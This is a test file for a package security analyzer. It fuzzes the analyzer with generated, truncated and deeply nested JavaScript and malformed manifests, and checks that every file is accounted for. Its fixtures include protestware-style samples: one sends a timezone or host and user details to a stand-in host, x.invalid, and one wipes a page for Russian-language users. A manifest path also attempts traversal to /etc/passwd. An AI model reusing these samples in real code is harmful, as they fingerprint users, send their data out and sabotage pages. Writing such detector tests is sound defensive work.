/**
 * Hostile and odd JavaScript: whatever a package ships, `analyzePackage` returns, accounts for
 * every JavaScript file (parsed, or listed with a reason), and reports only well-formed findings.
 * A throw here, or a detector failing on a file, is code an attacker can hide from the gate.
 */
import { readFileSync, readdirSync } from 'node:fs';
import { join, resolve } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { analyzePackage, JS_EXTENSIONS, type PackageAnalysis } from '../../src/analysis/analyze-package.js';
import { DETECTORS } from '../../src/analysis/detectors/index.js';
import { RULE_IDS } from '../../src/analysis/detectors/rule-ids.js';
import type { PackageFile, PackageFiles } from '../../src/fetch/types.js';
import { SEVERITIES } from '../../src/report/severity.js';
import { analyzeInChild } from '../support/analyze-in-child.js';

function pkg(files: readonly { path: string; text: string | Buffer }[]): PackageFiles {
  return {
    files: files.map(({ path, text }) => ({ path, content: typeof text === 'string' ? Buffer.from(text) : text }) satisfies PackageFile),
    integrity: null,
    notes: [],
  };
}

const isJs = (path: string): boolean => JS_EXTENSIONS.some((extension) => path.endsWith(extension));

/** The contract, on one package; returns the analysis for checks specific to a property. */
function expectContract(input: PackageFiles): PackageAnalysis {
  const result = analyzePackage(input, DETECTORS);
  const jsFiles = input.files.filter((file) => isJs(file.path));
  // Code written inside an install script is a file of its own, named after the file holding it
  // (`package.json#scripts.postinstall`, `setup.sh#eval[2]`): a file of the input, then `#`.
  const inputPaths = new Set(input.files.map((file) => file.path));
  const named = new Set([...result.findings.map((finding) => finding.file), ...result.files.problems.map((problem) => problem.file)]);
  const inline = [...named].filter((file) => !inputPaths.has(file) && inputPaths.has(file.slice(0, file.indexOf('#'))));
  const paths = new Set([...inputPaths, ...inline]);
  expect(result.files.total).toBeGreaterThanOrEqual(jsFiles.length);
  expect(result.files.total).toBeLessThanOrEqual(input.files.length + countInlineCode(input));
  expect(result.files.parsed).toBeGreaterThanOrEqual(0);
  expect(result.files.parsed).toBeLessThanOrEqual(result.files.total);
  for (const problem of result.files.problems) {
    expect(paths.has(problem.file)).toBe(true);
    expect(problem.reason).not.toBe('');
    // A detector that throws leaves the rest of its file unexamined: the walk must not break on input.
    expect(problem.reason).not.toMatch(/^rule \S+ failed/);
  }
  const unparsedListed = new Set(result.files.problems.map((problem) => problem.file).filter((file) => file !== 'package.json'));
  expect(unparsedListed.size).toBeGreaterThanOrEqual(result.files.total - result.files.parsed);
  for (const finding of result.findings) {
    expect(RULE_IDS).toContain(finding.ruleId);
    expect(SEVERITIES).toContain(finding.severity);
    expect(Number.isInteger(finding.line)).toBe(true);
    expect(finding.line).toBeGreaterThanOrEqual(1);
    expect(finding.column).toBeGreaterThanOrEqual(0);
    expect(paths.has(finding.file)).toBe(true);
    expect(typeof finding.message).toBe('string');
    expect(finding.message).not.toBe('');
  }
  return result;
}

/** An upper bound on the inline code pieces of a package: every `-e`/`-p`/`--eval`/`--print` of its manifest and scripts. */
function countInlineCode(input: PackageFiles): number {
  let count = 0;
  for (const file of input.files) {
    if (file.path !== 'package.json' && !file.path.endsWith('.sh')) continue;
    count += (file.content.toString('latin1').match(/-[ep]\b|-pe\b|--eval|--print|<</g) ?? []).length;
  }
  return count;
}

/** One JavaScript file alone: its outcome is parsed, or a problem naming it. */
function expectAccounted(path: string, text: string | Buffer): PackageAnalysis {
  const result = expectContract(pkg([{ path, text }]));
  expect(result.files.total).toBe(1);
  if (result.files.parsed === 0) expect(result.files.problems.map((problem) => problem.file)).toContain(path);
  return result;
}

/** Names the detectors look for, so random code reaches their logic rather than only the parser. */
const IDENT = fc.constantFrom(
  'process', 'env', 'Intl', 'os', 'require', 'navigator', 'globalThis', 'window', 'module', 'exports', 'Buffer',
  'x', 'y', 'tz', 'list', 'fetch', 'https', 'String', 'atob', 'crypto', 'undefined', 'arguments', 'this',
);
const PROPERTY = fc.constantFrom(
  'timeZone', 'TZ', 'LANG', 'HTTPS_PROXY', 'hostname', 'userInfo', 'networkInterfaces', 'env', 'resolvedOptions',
  'DateTimeFormat', 'includes', 'indexOf', 'some', 'request', 'fromCharCode', 'from', 'toString', 'split', 'join',
  'createHash', 'update', 'digest', 'language', 'languages', 'GITHUB_ACTOR', 'constructor', '__proto__', 'prototype',
);
const LITERAL = fc.oneof(
  fc.constantFrom('"Europe/Moscow"', "'ru-RU'", '0x2a', '1e309', '-0', 'null', 'true', '/a(b|c)*$/gi', '`x${1}`', "'\\u0041'", '"\\x41"', '10n', '"a".repeat(3)'),
  fc.string({ maxLength: 10 }).map((s) => JSON.stringify(s)),
  fc.integer().map(String),
);

const { expr: jsExpression, stmt: jsStatement } = fc.letrec<{ expr: string; stmt: string }>((tie) => ({
  expr: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    IDENT,
    LITERAL,
    fc.tuple(tie('expr'), PROPERTY).map(([o, p]) => `${o}.${p}`),
    fc.tuple(tie('expr'), tie('expr')).map(([o, p]) => `${o}[${p}]`),
    fc.tuple(tie('expr'), fc.array(tie('expr'), { maxLength: 3 })).map(([f, args]) => `${f}(${args.join(', ')})`),
    fc.tuple(tie('expr'), fc.constantFrom('+', '===', '!==', '==', '||', '&&', '??', '^', '|', '<<', 'in', 'instanceof', ','), tie('expr')).map(([a, op, b]) => `(${a} ${op} ${b})`),
    fc.tuple(fc.constantFrom('!', '-', 'typeof ', 'void ', 'await ', 'new ', '...', 'delete '), tie('expr')).map(([op, a]) => `${op}${a}`),
    fc.array(tie('expr'), { maxLength: 4 }).map((items) => `[${items.join(', ')}]`),
    fc.array(fc.tuple(PROPERTY, tie('expr')), { maxLength: 3 }).map((entries) => `({${entries.map(([k, v]) => `${k}: ${v}`).join(', ')}})`),
    fc.tuple(IDENT, tie('expr')).map(([p, body]) => `((${p}) => ${body})`),
    fc.tuple(IDENT, tie('stmt')).map(([p, body]) => `(function (${p}) { ${body} })`),
    fc.tuple(tie('expr'), tie('expr'), tie('expr')).map(([a, b, c]) => `(${a} ? ${b} : ${c})`),
    fc.tuple(tie('expr'), tie('expr')).map(([a, b]) => `\`${'$'}{${a}}-${'$'}{${b}}\``),
    fc.tuple(IDENT, tie('expr')).map(([a, b]) => `(${a} = ${b})`),
  ),
  stmt: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    tie('expr').map((e) => `${e};`),
    fc.tuple(fc.constantFrom('const', 'let', 'var'), IDENT, tie('expr')).map(([k, n, e]) => `${k} ${n} = ${e};`),
    fc.tuple(tie('expr'), tie('stmt'), tie('stmt')).map(([c, a, b]) => `if (${c}) { ${a} } else { ${b} }`),
    fc.tuple(IDENT, tie('expr'), tie('stmt')).map(([n, e, s]) => `for (const ${n} of ${e}) { ${s} }`),
    fc.tuple(tie('stmt'), IDENT, tie('stmt')).map(([a, e, b]) => `try { ${a} } catch (${e}) { ${b} }`),
    fc.tuple(IDENT, fc.array(tie('stmt'), { maxLength: 3 })).map(([n, body]) => `function ${n}() { ${body.join('\n')} }`),
    fc.tuple(IDENT, tie('stmt')).map(([n, s]) => `class C extends ${n} { m() { ${s} } static { ${s} } }`),
    fc.tuple(tie('expr'), tie('stmt')).map(([e, s]) => `with (${e}) { ${s} }`),
    tie('expr').map((e) => `return ${e};`),
    fc.tuple(IDENT, fc.constantFrom('os', 'node:os', 'https', './x.js')).map(([n, m]) => `import ${n} from '${m}';`),
    tie('expr').map((e) => `export default ${e};`),
    fc.constantFrom('debugger;', ';', '// comment', '/* block */', '<!-- html comment', 'label: for (;;) break label;', '"use strict";'),
  ),
}));

/** A file: random statements, sometimes with a hashbang or BOM in front, sometimes plain junk. */
const jsFile = fc.oneof(
  { weight: 4, arbitrary: fc.tuple(fc.constantFrom('', '#!/usr/bin/env node\n', '\ufeff', '\ufeff#!/x\n'), fc.array(jsStatement, { maxLength: 8 })).map(([head, body]) => head + body.join('\n')) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 200 }) },
  { weight: 1, arbitrary: fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes).toString('latin1')) },
);

const jsStatementForScript = fc.array(jsStatement, { maxLength: 3 }).map((body) => body.join(' '));

const manifest = fc.oneof(
  fc.record({
    name: fc.constantFrom('p', '@s/p', ''),
    main: fc.constantFrom('index.js', 'lib/a.mjs', './bin/cli', 'missing.js', '../../etc/passwd', '/abs.js'),
    bin: fc.oneof(fc.constantFrom('bin/cli', './index.js'), fc.dictionary(fc.string({ maxLength: 5 }), fc.constantFrom('bin/cli', 'c.jsx'))),
    scripts: fc.dictionary(
      fc.constantFrom('preinstall', 'install', 'postinstall', 'prepare', 'test'),
      fc.oneof(
        fc.constantFrom('node index.js', 'node -r ./b.cjs bin/cli', 'sh x.sh', 'node --require lib/a.mjs', '', 'npm run test', 'node -e "require(\'./b.cjs\')" || exit 0'),
        // Generated code inside `node -e "..."`, quoted as a shell reads it.
        jsStatementForScript.map((code) => `node -e '${code.replace(/'/g, "'\\''")}' && node index.js`),
      ),
    ),
    exports: fc.oneof(fc.constant('./index.js'), fc.dictionary(fc.constantFrom('.', './sub', 'import', 'require'), fc.constantFrom('./lib/a.mjs', './b.cjs', null))),
  }, { requiredKeys: [] }).map((value) => JSON.stringify(value)),
  fc.constantFrom('{', '[]', 'null', '"x"', '{"main": 1, "bin": [], "scripts": "x"}', '{"__proto__": {"main": "index.js"}}', '\ufeff{"main":"index.js"}'),
);

const filePath = fc.constantFrom('index.js', 'lib/a.mjs', 'b.cjs', 'c.jsx', 'bin/cli', 'README.md', 'test/fixture.js', 'deep/a/b/c/d.js');

describe('analyzePackage on random JavaScript', () => {
  it('returns for random packages of generated code and accounts for every file', () => {
    fc.assert(
      fc.property(manifest, fc.array(fc.tuple(filePath, jsFile), { minLength: 1, maxLength: 5 }), (json, files) => {
        expectContract(pkg([{ path: 'package.json', text: json }, ...files.map(([path, text]) => ({ path, text }))]));
      }),
      { numRuns: 250 },
    );
  });

  it('accounts for every single generated file as parsed or listed', () => {
    fc.assert(
      fc.property(fc.constantFrom('index.js', 'a.mjs', 'b.cjs', 'c.jsx'), jsFile, (path, text) => {
        expectAccounted(path, text);
      }),
      { numRuns: 300 },
    );
  });

  it('survives invalid UTF-8 and NUL bytes', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), jsStatement, (bytes, statement) => {
        expectAccounted('index.js', Buffer.concat([Buffer.from(statement), Buffer.from(bytes), Buffer.from(statement)]));
      }),
      { numRuns: 150 },
    );
  });
});

const SNIPPETS: readonly string[] = [
  ...readdirSync(resolve('__tests__/fixtures/packages'), { recursive: true, encoding: 'utf8' })
    .filter((entry) => entry.endsWith('.js'))
    .sort()
    .map((entry) => readFileSync(join(resolve('__tests__/fixtures/packages'), entry), 'utf8')),
  "const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nif (['Europe/Moscow', 'Europe/Minsk'].includes(tz)) require('https').get('https://x.invalid/?z=' + tz);\n",
  "const os = require('os');\nconst h = os.hostname();\nconst l = process.env.LANG || process.env.LC_ALL;\nfetch('https://x.invalid', { method: 'POST', body: JSON.stringify({ h, l, u: os.userInfo().username }) });\n",
  "const k = 7; const s = String.fromCharCode(...[82, 85].map((c) => c ^ k));\nif (navigator.language.startsWith(atob('cnU='))) { document.body.innerHTML = ''; }\n",
];

describe('analyzePackage on mutated real snippets', () => {
  it('survives truncation at any point', () => {
    for (const snippet of SNIPPETS) {
      for (let at = 0; at <= snippet.length; at += 7) expectAccounted('index.js', snippet.slice(0, at));
    }
  });

  it('survives random splices of one snippet into another', () => {
    const at = fc.double({ min: 0, max: 1, noNaN: true, maxExcluded: true });
    fc.assert(
      fc.property(fc.constantFrom(...SNIPPETS), fc.constantFrom(...SNIPPETS), at, at, (a, b, i, j) => {
        const cut = Math.floor(i * a.length);
        expectAccounted('index.js', a.slice(0, cut) + b.slice(Math.floor(j * b.length)) + a.slice(cut));
      }),
      { numRuns: 150 },
    );
  });
});

/** Wrappers an attacker can nest without limit; each is an opening and its closing text. */
const WRAPPERS = Object.freeze({
  paren: ['(', ')'],
  array: ['[', ']'],
  object: ['{a:', '}'],
  block: ['{', '}'],
  arrow: ['(() => ', ')'],
  func: ['(function () { return ', '; })'],
  ifBlock: ['if (x) {', '}'],
  call: ['f(', ')'],
  not: ['!', ''],
  template: ['`${', '}`'],
  ternary: ['x ? ', ' : 0'],
  spread: ['[...', ']'],
} as const);
type Wrapper = keyof typeof WRAPPERS;
const WRAPPER_NAMES = Object.keys(WRAPPERS) as Wrapper[];
/** What sits in the middle: a fingerprint read, so an analysis that gives up early is visible. */
const CORE = 'Intl.DateTimeFormat().resolvedOptions().timeZone';

function nested(kinds: readonly Wrapper[], depth: number, core = CORE, closed = true): string {
  const open: string[] = [];
  const close: string[] = [];
  for (let i = 0; i < depth; i += 1) {
    const [o, c] = WRAPPERS[kinds[i % kinds.length] ?? 'paren'];
    open.push(o);
    close.push(c);
  }
  return `${open.join('')}${core}${closed ? close.reverse().join('') : ''}`;
}

function chain(length: number, link: (i: number) => string, head: string): string {
  let text = head;
  for (let i = 0; i < length; i += 1) text += link(i);
  return text;
}

/** The contract on an analysis made in a child process: it returned, and the one file is accounted for. */
async function expectAccountedInChild(sources: readonly string[]): Promise<void> {
  const outcome = await analyzeInChild(sources);
  if (!outcome.ok) {
    throw new Error(`analyzePackage killed its process (exit ${String(outcome.exitCode)}, signal ${String(outcome.signal)}):\n${outcome.stderr}`);
  }
  expect(outcome.results).toHaveLength(sources.length);
  for (const result of outcome.results) {
    expect(result.files.total).toBe(1);
    if (result.files.parsed === 0) expect(result.files.problems.map((problem) => problem.file)).toContain('index.js');
    for (const problem of result.files.problems) expect(problem.reason).not.toMatch(/^rule \S+ failed/);
    for (const finding of result.findings) expect(finding.line).toBeGreaterThanOrEqual(1);
  }
}

/** Wrappers whose nesting kills the process (see the child-process tests below) stay out of the in-process property. */
const IN_PROCESS_WRAPPERS = WRAPPER_NAMES.filter((name) => name !== 'template' && name !== 'func');

function nestedStatement(kinds: readonly Wrapper[], depth: number, closed: boolean): string {
  return kinds.includes('block') || kinds.includes('ifBlock') ? nested(kinds, depth, `${CORE};`, closed) : `module.exports = ${nested(kinds, depth, CORE, closed)};`;
}

describe('analyzePackage on pathological nesting', () => {
  it('survives random nesting up to thousands of levels, closed or truncated', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...IN_PROCESS_WRAPPERS), { minLength: 1, maxLength: 4 }),
        fc.integer({ min: 1, max: 6_000 }),
        fc.boolean(),
        (kinds, depth, closed) => {
          expectAccounted('index.js', nestedStatement(kinds, depth, closed));
        },
      ),
      { numRuns: 60 },
    );
  });

  it('survives random nesting of every wrapper, templates and functions included (in a child process)', async () => {
    const sources = fc.sample(
      fc.tuple(fc.array(fc.constantFrom(...WRAPPER_NAMES), { minLength: 1, maxLength: 4 }), fc.integer({ min: 1, max: 6_000 }), fc.boolean()),
      { numRuns: 40, seed: 6 },
    ).map(([kinds, depth, closed]) => nestedStatement(kinds, depth, closed));
    await expectAccountedInChild(sources);
  });

  it.each([
    ['100k parentheses', () => `x = ${nested(['paren'], 100_000)};`],
    ['100k arrays', () => `x = ${nested(['array'], 100_000)};`],
    ['100k blocks', () => nested(['block'], 100_000, `${CORE};`)],
    ['100k unclosed braces', () => nested(['block'], 100_000, '', false)],
    ['20k arrow functions', () => `x = ${nested(['arrow'], 20_000)};`],
    ['50k string concatenations', () => `x = ${chain(50_000, (i) => ` + "${i % 10}"`, CORE)};`],
    ['50k member accesses', () => `x = ${chain(50_000, () => '.a', 'process.env')};`],
    ['50k calls', () => `x = ${chain(50_000, () => '()', 'f')};`],
    ['50k assignments', () => `x = ${chain(50_000, (i) => `v${i % 7} = `, '')}${CORE};`],
    ['50k logical ors', () => `x = ${chain(50_000, () => ' || process.env.TZ', CORE)};`],
    ['50k statements', () => chain(50_000, (i) => `var a${i} = ${CORE};\n`, '')],
    ['a 4 MB single line', () => `x = "${'a'.repeat(4 * 1024 * 1024)}" + ${CORE};`],
    ['a pathological regex literal', () => `x = /(a+)+$/.test("${'a'.repeat(10_000)}!") || ${CORE};`],
    ['a 100k-element array of strings', () => `x = [${Array.from({ length: 100_000 }, (_, i) => `"z${i}"`).join(',')}].includes(${CORE});`],
  ])('returns on %s and accounts for the file', (_name, build) => {
    expectAccounted('index.js', build());
  });

  // Each in its own process: these kill node 20 (V8 "RegExpCompiler Allocation failed - process
  // out of memory") inside acorn, which compiles a regular expression with the stack nearly
  // exhausted instead of throwing its "Not enough stack space" SyntaxError.
  it.each([
    ['600 nested template literals', () => `x = ${nested(['template'], 600, '1')};`],
    ['20k nested template literals', () => `x = ${nested(['template'], 20_000)};`],
    ['20k nested function expressions', () => `x = ${nested(['func'], 20_000)};`],
    ['20k mixed functions and templates', () => `x = ${nested(['func', 'template'], 20_000)};`],
  ])('survives %s without killing the process', async (_name, build) => {
    await expectAccountedInChild([build()]);
  });
});
